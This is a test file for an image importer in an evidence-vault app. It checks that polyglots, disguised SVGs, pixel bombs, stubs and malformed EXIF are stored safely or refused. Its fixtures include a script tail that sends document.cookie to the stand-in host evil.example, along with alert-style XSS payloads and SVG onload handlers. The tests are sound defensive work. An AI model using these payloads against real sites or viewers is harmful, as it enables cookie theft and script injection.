// Hostile images through the real importer: polyglots, SVG in disguise, pixel bombs in other formats,
// stubs, and EXIF written to break parsers. The rule for each: never crash, never execute or render
// the original, keep what is real evidence byte for byte, and refuse the rest by name.
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import zlib from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { exifCaptureTime, resolveCaptureTime } from '../../../electron/main/vault/capture';
import type { TestVault } from './fixtures';
import { NOW, jpegBytes, makeTestVault, pngBytes } from './fixtures';
import { TAG, dateExif, exifBlock, withApp1 } from './exif';
import { sha256 } from '../faults/harness';

let v: TestVault;
beforeEach(async () => {
  v = await makeTestVault();
  await mkdir(v.srcDir, { recursive: true });
});
afterEach(async () => v.cleanup());

async function importOne(name: string, bytes: Uint8Array | string) {
  const file = path.join(v.srcDir, name.replaceAll('/', '_'));
  await writeFile(file, bytes);
  const batch = await v.service.importPaths('case-1', [file], 'dialog');
  return { batch, item: batch.items[0], failure: batch.failures[0] };
}

const ZIP_TAIL = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(26), Buffer.from('payload.exe'), Buffer.from([0x50, 0x4b, 0x05, 0x06]), Buffer.alloc(18)]);
const HTML_TAIL = Buffer.from('<html><body><script>fetch("https://evil.example/"+document.cookie)</script></body></html>');

describe('polyglots: kept byte for byte as the image they are, never opened as anything else', () => {
  it.each([
    { label: 'PNG + ZIP appended', make: async () => Buffer.concat([await pngBytes(50, 40), ZIP_TAIL]), format: 'png' },
    { label: 'PNG + HTML appended', make: async () => Buffer.concat([await pngBytes(50, 40), HTML_TAIL]), format: 'png' },
    {
      label: 'JPEG/JS polyglot (script in a COM segment and after EOI)',
      make: async () => {
        const jpeg = await jpegBytes(64, 48);
        const com = Buffer.concat([Buffer.from([0xff, 0xfe, 0x00, 0x1a]), Buffer.from('*/=alert(1);/*<script>x'), Buffer.alloc(1)]);
        return Buffer.concat([jpeg.subarray(0, 2), com, jpeg.subarray(2), Buffer.from('*/alert(document.domain)//')]);
      },
      format: 'jpeg',
    },
  ])('$label', async ({ make, format }) => {
    const bytes = await make();
    // Named as a web page on purpose: the name must not decide how the bytes are treated.
    const { item, failure } = await importOne('invoice.html', bytes);
    expect(failure).toBeUndefined();
    expect(item?.blob).toMatchObject({ sha256: sha256(bytes), mediaType: 'image', format, hasThumbnail: true });
    const sha = item?.blob.sha256 ?? '';
    expect(Buffer.compare(await readFile(path.join(v.vaultDir, 'blobs', sha.slice(0, 2), sha)), bytes)).toBe(0);
    // What the app shows is a re-encoded WebP: the appended bytes never reach the renderer.
    const display = await v.service.readDisplay(sha);
    expect(display.mime).toBe('image/webp');
    expect(Buffer.from(display.bytes).includes(Buffer.from('script'))).toBe(false);
    // "Open in system app" gets the image's extension whatever name the renderer sends.
    for (const asked of ['invoice.html', 'run.bat', 'x.hta', 'noext']) {
      const opened = path.basename(await v.service.prepareOpen(sha, asked));
      expect(opened).toMatch(format === 'png' ? /\.png$/ : /\.jpg$/);
      expect(opened.startsWith(asked)).toBe(true);
    }
  });

  it('an HTML page named .png is refused; named .html it is a saved page (shown only as a script-free rendering)', async () => {
    const page = '<!doctype html><html><script>alert(1)</script></html>';
    expect((await importOne('shot.png', page)).failure).toMatchObject({ file: 'shot.png', code: 'corrupt-file' });
    expect((await importOne('page.html', page)).item?.blob).toMatchObject({ mediaType: 'page', format: 'html' });
  });

  it('a real extension that fits is kept: a PNG named .jpg opens as .jpg (an image viewer either way)', async () => {
    const { item } = await importOne('photo.jpg', await pngBytes(20, 20));
    expect(path.basename(await v.service.prepareOpen(item?.blob.sha256 ?? '', 'photo.jpg'))).toBe('photo.jpg');
  });
});

describe('SVG is refused in every disguise (it can carry scripts); as .txt it is only ever text', () => {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>';
  it.each([
    ['icon.svg', svg],
    ['icon.png', `\uFEFF${svg}`],
    ['icon.jpg', `\n\n   <?xml version="1.0"?>\n${svg}`],
    ['ICON.SVG', svg.toUpperCase()],
    ['icon.gif', '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x"><svg/>'],
  ])('%s', async (name, content) => {
    const { failure } = await importOne(name, content);
    expect(failure).toMatchObject({ file: name, code: 'unsupported-type', message: expect.stringContaining('SVG') });
    expect(await readdir(path.join(v.vaultDir, 'blobs'))).toEqual([]);
  });

  it('a gzipped SVG (.svgz) is refused too', async () => {
    const { failure } = await importOne('icon.svgz', zlib.gzipSync(svg));
    expect(failure).toMatchObject({ file: 'icon.svgz', code: 'unsupported-type' });
  });
});

describe('pixel bombs and stubs in other formats', () => {
  /** A real small JPEG whose frame header is rewritten to claim width×height. */
  async function jpegClaiming(width: number, height: number): Promise<Buffer> {
    const jpeg = Buffer.from(await jpegBytes(16, 16));
    for (let i = 2; i < jpeg.length - 9; i++) {
      if (jpeg[i] === 0xff && (jpeg[i + 1] === 0xc0 || jpeg[i + 1] === 0xc2)) {
        jpeg.writeUInt16BE(height, i + 5);
        jpeg.writeUInt16BE(width, i + 7);
        return jpeg;
      }
    }
    throw new Error('no SOF marker');
  }

  function gifClaiming(width: number, height: number): Buffer {
    const head = Buffer.from('GIF89a\0\0\0\0\x00\x00\x00', 'latin1');
    head.writeUInt16LE(width, 6);
    head.writeUInt16LE(height, 8);
    const image = Buffer.from([0x2c, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x02, 0x02, 0x44, 0x01, 0x00, 0x3b]);
    image.writeUInt16LE(width, 5);
    image.writeUInt16LE(height, 7);
    return Buffer.concat([head, image]);
  }

  it.each([
    ['a JPEG claiming 65000×65000', 'bomb.jpg', () => jpegClaiming(65000, 65000), 'too-many-pixels'],
    ['a GIF claiming 65535×65535', 'bomb.gif', async () => gifClaiming(65535, 65535), 'too-many-pixels'],
    ['a PNG signature and nothing else', 'stub.png', async () => Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), 'corrupt-file'],
    ['a JPEG start-of-image marker and nothing else', 'stub.jpg', async () => Buffer.from([0xff, 0xd8, 0xff]), 'corrupt-file'],
    ['a WebP RIFF header with no image', 'stub.webp', async () => Buffer.from('RIFF\x04\0\0\0WEBP', 'latin1'), 'corrupt-file'],
    ['1 MB of random bytes named .jpg', 'noise.jpg', async () => Buffer.from(Array.from({ length: 1 << 20 }, (_, i) => (i * 2654435761) >>> 24)), 'corrupt-file'],
  ])('%s is refused by name, and nothing is stored', async (_label, name, make, code) => {
    const { failure } = await importOne(name, await make());
    expect(failure).toMatchObject({ file: name, code });
    expect(failure?.message.startsWith(`${name}: `)).toBe(true);
    expect(await readdir(path.join(v.vaultDir, 'blobs'))).toEqual([]);
    expect(await readdir(path.join(v.vaultDir, 'tmp'))).toEqual([]);
  });
});

describe('EXIF with absurd values never crashes and falls through to the next capture-time source', () => {
  it('the hand-made EXIF is read when sane (so the cases below can fail)', () => {
    expect(exifCaptureTime(dateExif('2026:11:17 12:03:04'))).toBe('2026-11-17T12:03:04');
    expect(exifCaptureTime(dateExif('2026:11:17 12:03:04', '+09:00'))).toBe('2026-11-17T11:03:04');
  });

  const looping = (() => {
    const block = exifBlock([{ tag: TAG.make, ascii: 'Loop' }]);
    block.writeUInt32LE(8, block.length - 4 - 5); // IFD0's next-IFD pointer → IFD0 itself
    return block;
  })();
  const farPointer = exifBlock([{ tag: TAG.exifPointer, short: 0x7fffffff }]);

  it.each([
    ['year 9999', dateExif('9999:12:31 23:59:59')],
    ['year 1900', dateExif('1900:01:01 00:00:00')],
    ['a negative year', dateExif('-001:01:01 00:00:00')],
    ['all zeros', dateExif('0000:00:00 00:00:00')],
    ['month 13, hour 25', dateExif('2026:13:45 25:61:61')],
    ['not a date', dateExif('yesterday')],
    ['a 60 KB date string', dateExif('2'.repeat(60_000))],
    ['an IFD that points at itself', looping],
    ['an Exif IFD pointer far past the end', farPointer],
    ['an entry count of 65535 in a tiny block', Buffer.concat([Buffer.from('Exif\0\0II*\0\x08\0\0\0\xff\xff', 'latin1')])],
    ['the Exif header alone', Buffer.from('Exif\0\0', 'latin1')],
    ['an empty buffer', Buffer.alloc(0)],
    ['64 KB of garbage', Buffer.from(Array.from({ length: 65_000 }, (_, i) => (i * 7919) & 0xff))],
  ])('%s → no EXIF time, the file name is used', (_label, exif) => {
    expect(exifCaptureTime(exif)).toBeNull();
    const resolved = resolveCaptureTime({ name: 'Screenshot_20261117_120304.jpg', exif, mtimeMs: null, clipboard: false, now: NOW });
    expect(resolved).toEqual({ capturedAt: '2026-11-17T12:03:04', captureSource: 'filename' });
  });

  it('an absurd UTC offset is ignored and the phone is taken to be on China time', () => {
    expect(exifCaptureTime(dateExif('2026:11:17 12:03:04', '+99:99'))).toBe('2026-11-17T12:03:04');
  });

  it.each([
    ['orientation 9 (undefined)', [{ tag: TAG.orientation, short: 9 }]],
    ['orientation 0', [{ tag: TAG.orientation, short: 0 }]],
    ['orientation 65535', [{ tag: TAG.orientation, short: 65535 }]],
    ['a 60 KB camera make', [{ tag: TAG.make, ascii: 'M'.repeat(60_000) }]],
  ])('a photo with %s and year 9999 is stored, upright as encoded, timed by its name', async (_label, ifd0) => {
    const photo = withApp1(await jpegBytes(120, 80), exifBlock(ifd0, [{ tag: TAG.dateTimeOriginal, ascii: '9999:01:01 00:00:00' }]));
    const { item, failure } = await importOne('IMG_20261117_120304.jpg', photo);
    expect(failure).toBeUndefined();
    expect(item?.blob).toMatchObject({ sha256: sha256(photo), width: 120, height: 80, capturedAt: '2026-11-17T12:03:04', captureSource: 'filename' });
  });
});
